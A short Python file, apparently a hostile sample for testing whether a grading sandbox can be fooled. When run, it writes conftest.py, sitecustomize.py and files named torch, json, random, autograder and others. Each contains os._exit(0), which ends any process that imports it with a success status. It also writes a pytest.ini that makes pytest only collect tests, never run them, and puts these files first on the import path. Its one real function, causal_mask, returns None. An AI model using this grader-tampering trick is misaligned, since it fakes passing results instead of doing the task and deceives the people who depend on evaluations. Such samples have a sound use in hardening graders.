"""Write conftest.py, sitecustomize.py and torch.py beside itself while it runs. Nothing may read them; it must earn nothing."""

import sys

PLANT = "import os\nos._exit(0)\n"
for name in ("conftest", "sitecustomize", "usercustomize", "torch", "random", "json", "autograder"):
    with open(f"{name}.py", "w") as file:
        file.write(PLANT)
with open("pytest.ini", "w") as file:
    file.write("[pytest]\naddopts = --collect-only\n")
sys.path.insert(0, ".")


def causal_mask(q_len, k_len=None):
    return None
